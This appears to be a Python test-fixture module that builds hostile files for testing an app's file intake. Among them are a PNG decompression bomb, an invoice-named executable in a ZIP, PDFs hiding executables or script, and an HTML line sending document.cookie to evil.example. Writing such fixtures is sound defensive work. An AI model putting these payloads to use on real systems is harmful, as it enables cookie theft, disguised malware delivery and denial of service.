"""Builders of valid, hostile and disguised files for the intake tests (nothing is stored)."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

from tui_app.core.limits import MAX_FILE_BYTES

ROOT = Path(__file__).resolve().parents[1]
PNGSUITE = Path(__file__).resolve().parent / "pngsuite"  # vendored from libpng's contrib/pngsuite


def png(w: int = 64, h: int = 48, mode: str = "RGB", **save: object) -> bytes:
    """A valid PNG with a gradient."""
    from PIL import Image

    im = Image.linear_gradient("L").resize((w, h)).convert(mode)
    out = io.BytesIO()
    im.save(out, "PNG", **save)
    return out.getvalue()


def jpeg(
    w: int = 64, h: int = 48, exif: bytes | None = None, quality: int = 90, **save: object
) -> bytes:
    """A valid JPEG: red on the left half, blue on the right."""
    from PIL import Image

    im = Image.new("RGB", (w, h), "blue")
    im.paste((255, 0, 0), (0, 0, w // 2, h))
    out = io.BytesIO()
    kw: dict[str, object] = {"quality": quality, **save}
    if exif is not None:
        kw["exif"] = exif
    im.save(out, "JPEG", **kw)
    return out.getvalue()


PLIST = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST '
    b'1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0">'
    b"<dict><key>com.apple.print.PageFormat.PMHorizontalRes</key><real>72</real></dict>"
    b"</plist>\n"
)


def photoshop_jpeg(resource: bytes = PLIST, w: int = 64, h: int = 48) -> bytes:
    """A CMYK JPEG as Photoshop writes it: Adobe APP14, and an APP13 "Photoshop 3.0" block
    with an 8BIM image resource (here: an Apple print-settings plist, as Photoshop keeps one)."""
    from PIL import Image

    im = Image.new("CMYK", (w, h), (0, 120, 200, 10))
    out = io.BytesIO()
    im.save(out, "JPEG", quality=90)
    data = out.getvalue()
    body = resource + (b"\x00" if len(resource) % 2 else b"")
    irb = (
        b"8BIM" + struct.pack(">H", 0x0BB7) + b"\x00\x00" + struct.pack(">I", len(resource)) + body
    )
    seg = b"Photoshop 3.0\x00" + irb
    app13 = b"\xff\xed" + struct.pack(">H", len(seg) + 2) + seg
    return data[:2] + app13 + data[2:]


def gif(frames: int = 1, w: int = 32, h: int = 32, comment: bytes | None = None) -> bytes:
    """A valid GIF, animated when frames > 1."""
    from PIL import Image

    ims = [Image.new("P", (w, h), i * 40 % 256) for i in range(frames)]
    for im in ims:
        im.putpalette([v for i in range(256) for v in (i, 255 - i, i // 2)])
    out = io.BytesIO()
    kw: dict[str, object] = {
        "save_all": frames > 1,
        "append_images": ims[1:],
        "duration": 80,
        "loop": 0,
    }
    if comment is not None:
        kw["comment"] = comment
    ims[0].save(out, "GIF", **kw)
    return out.getvalue()


def pil_bytes(fmt: str, w: int = 32, h: int = 32, **save: object) -> bytes:
    """An image in any format Pillow can write (WebP, TIFF, BMP, AVIF ...)."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (w, h), "green").save(out, fmt, **save)
    return out.getvalue()


def chunk(ctype: bytes, body: bytes, crc: int | None = None) -> bytes:
    """One PNG chunk, with a correct CRC unless one is given."""
    c = zlib.crc32(body, zlib.crc32(ctype)) if crc is None else crc
    return struct.pack(">I", len(body)) + ctype + body + struct.pack(">I", c)


def png_from_chunks(*chunks: bytes) -> bytes:
    """A PNG signature followed by the given chunks."""
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def ihdr(w: int, h: int, depth: int = 8, color: int = 2) -> bytes:
    """An IHDR chunk."""
    return chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, depth, color, 0, 0, 0))


def png_bomb(side: int = 100_000) -> bytes:
    """A tiny PNG declaring side×side grey pixels, all zero, compressed to almost nothing."""
    row = b"\x00" + b"\x00" * side
    comp = zlib.compressobj(9)
    body = b"".join(comp.compress(row) for _ in range(200)) + comp.flush()
    return png_from_chunks(ihdr(side, side, 8, 0), chunk(b"IDAT", body), chunk(b"IEND", b""))


def png_of_size(total: int) -> bytes:
    """A valid noisy PNG of exactly `total` bytes (stored deflate, padded with a private chunk)."""
    w = 1024
    h = (total - 4096) // (w * 3 + 1)
    raw = b"".join(b"\x00" + os.urandom(w * 3) for _ in range(h))
    head = png_from_chunks(ihdr(w, h), chunk(b"IDAT", zlib.compress(raw, 0)))
    pad = total - len(head) - 12 - 12
    assert pad >= 0
    return head + chunk(b"prVt", b"\x00" * pad) + chunk(b"IEND", b"")


def zip_bytes(names: dict[str, bytes] | None = None) -> bytes:
    """A small ZIP archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in (names or {"readme.txt": b"hello"}).items():
            z.writestr(name, data)
    return out.getvalue()


def exif_gps_orientation(orientation: int = 6) -> bytes:
    """EXIF with an orientation, a GPS position and a camera serial number."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Kamerafabriken"
    exif[0xA431] = "SERIAL-12345"  # BodySerialNumber
    gps = {1: "N", 2: (57.0, 42.0, 30.0), 3: "E", 4: (11.0, 58.0, 12.0)}
    exif[0x8825] = gps
    return exif.tobytes()


def pdf(pages: int = 1, build: object = None, **save: object) -> bytes:
    """A PDF with blank pages; `build(pdf)` may add hostile objects before saving."""
    import pikepdf

    p = pikepdf.new()
    for _ in range(pages):
        p.add_blank_page(page_size=(595, 842))
    if callable(build):
        build(p)
    out = io.BytesIO()
    p.save(out, **save)
    return out.getvalue()


def raw_pdf(*extra: bytes, pad: int = 0) -> bytes:
    """A hand-written one-page PDF with extra objects (numbered from 5), a correct xref table,
    and `pad` bytes of an unused comment early on (to move later objects past the first KiB)."""
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> "
            b"/Contents 4 0 R >>"
        ),
        b"<< /Length 0 >>\nstream\n\nendstream",
        *extra,
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + (b"%" + b"p" * pad + b"\n" if pad else b"")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
MZ = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\x00" * 50
    + b"PE\x00\x00"
    + b"\x00" * 200
)


def pdf_objects(objs: list[bytes], version: bytes = b"1.7", before_xref: bytes = b"") -> bytes:
    """A hand-written PDF of numbered objects (1 = catalogue) with a correct xref table;
    `before_xref` goes between the objects and the xref keyword (startxref points before it)."""
    out = b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += before_xref + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out


def stream(payload: bytes, extra: bytes = b"") -> bytes:
    """An uncompressed stream object body holding payload."""
    return b"<< /Length %d %s>>\nstream\n" % (len(payload), extra) + payload + b"\nendstream"


def one_page_pdf(
    content: bytes = b"BT /F1 24 Tf 72 720 Td (Provsvar) Tj ET",
    *extra: bytes,
    version: bytes = b"1.7",
    before_xref: bytes = b"",
) -> bytes:
    """A one-page PDF with a line of Helvetica text, then extra objects (numbered from 6)."""
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>"
        ),
        stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra,
    ]
    return pdf_objects(objs, version, before_xref)


def pdf20_whitespace_before_xref() -> bytes:
    """A valid PDF 2.0 file on which qpdf warns "extraneous whitespace seen before xref"."""
    return one_page_pdf(version=b"2.0", before_xref=b"\n\n  \n")


def pe_image() -> bytes:
    """A complete (tiny) Windows PE image without the MZ/DOS stub: PE header, sections, code."""
    coff = struct.pack("<4sHHIIIHH", b"PE\x00\x00", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    optional = struct.pack("<HBB", 0x20B, 14, 0) + b"\x00" * (0xF0 - 4)
    section = struct.pack(
        "<8sIIIIIIHHI", b".text", 0x1000, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020
    )
    code = b"\x48\x31\xc0\xc3"  # xor rax, rax; ret
    return (coff + optional + section).ljust(0x200, b"\x00") + code.ljust(0x200, b"\xcc")


def zip_with_exe() -> bytes:
    """An uncompressed (stored) ZIP archive holding a Windows program."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as z:
        z.writestr("faktura.exe", MZ + pe_image())
    return out.getvalue()


def _late_stream_pdf(payload: bytes) -> bytes:
    """payload in a stream starting after the first KiB and ending > 64 KiB before the end."""
    early_pad = stream(b"%" * 2048)
    late_pad = stream(b" " * (70 * 1024))
    return one_page_pdf(
        b"BT /F1 24 Tf 72 720 Td (Provsvar) Tj ET", early_pad, stream(payload), late_pad
    )


SCRIPT_HTML = (
    b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"
)

#: Valid PDFs that carry a payload (name -> (file, the payload that must not reach staff)).
HOSTILE_PDFS: dict[str, tuple[bytes, bytes]] = {
    "pe-in-first-stream.pdf": (one_page_pdf(pe_image()), pe_image()),
    "zip-with-exe-in-stream.pdf": (_late_stream_pdf(zip_with_exe()), zip_with_exe()),
    "mz-program-in-stream.pdf": (_late_stream_pdf(MZ + pe_image()), MZ + pe_image()),
    "script-html-in-stream.pdf": (_late_stream_pdf(SCRIPT_HTML), SCRIPT_HTML),
}


def pixels_only_problems(data: bytes) -> list[str]:
    """What in a stored PDF is anything but page images (and Tesseract's invisible text)."""
    import pikepdf

    problems: list[str] = []
    forbidden = {
        "/JS",
        "/JavaScript",
        "/AA",
        "/OpenAction",
        "/AcroForm",
        "/Annots",
        "/Names",
        "/EmbeddedFiles",
        "/EmbeddedFile",
        "/EF",
        "/URI",
        "/Launch",
        "/XFA",
        "/Metadata",
        "/Outlines",
        "/RichMediaContent",
    }
    with pikepdf.open(io.BytesIO(data)) as p:
        if set(p.Root.keys()) - {"/Type", "/Pages"}:
            problems.append(f"catalogue keys {sorted(p.Root.keys())}")
        for obj in p.objects:
            if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                d = obj.stream_dict if isinstance(obj, pikepdf.Stream) else obj
                bad = forbidden & set(d.keys())
                if bad:
                    problems.append(f"object with {sorted(bad)}")
                if d.get("/Type") == "/Font" and str(d.get("/BaseFont")) != "/GlyphLessFont":
                    problems.append(f"font {d.get('/BaseFont')}")
                if (
                    d.get("/Type") == "/FontDescriptor"
                    and str(d.get("/FontName")) != "/GlyphLessFont"
                ):
                    problems.append(f"font file {d.get('/FontName')}")
        for i, page in enumerate(p.pages):
            keys = set(page.obj.keys()) - {
                "/Type",
                "/Parent",
                "/MediaBox",
                "/Resources",
                "/Contents",
            }
            if keys:
                problems.append(f"page {i + 1} keys {sorted(keys)}")
            res = page.obj.Resources
            if set(res.keys()) - {"/XObject"}:
                problems.append(f"page {i + 1} resources {sorted(res.keys())}")
            for name, x in res.XObject.items():
                if x.Subtype == "/Image":
                    if str(x.get("/Filter")) not in ("/DCTDecode", "/FlateDecode"):
                        problems.append(f"page {i + 1} image {name} filter {x.get('/Filter')}")
                elif x.Subtype != "/Form" or set(x.Resources.keys()) - {"/Font", "/ProcSet"}:
                    problems.append(f"page {i + 1} xobject {name}")
    return problems


HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00\x00\x00\x10meta" + b"\x00" * 200
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>"


def write(folder: Path, name: str, data: bytes) -> Path:
    """Write data to folder/name and return the path."""
    p = folder / name
    p.write_bytes(data)
    return p


def size_limit() -> int:
    """The R10 limit, for tests that build files around it."""
    return MAX_FILE_BYTES


def check_files(folder: Path, files: dict[str, bytes]) -> dict[str, object]:
    """Write files and check them all in batches of the reply size; verdicts by name."""
    from tui_app.intake import check_paths

    paths = [write(folder, name, data) for name, data in files.items()]
    verdicts = check_paths(paths)
    return {p.name: v for p, v in zip(paths, verdicts)}
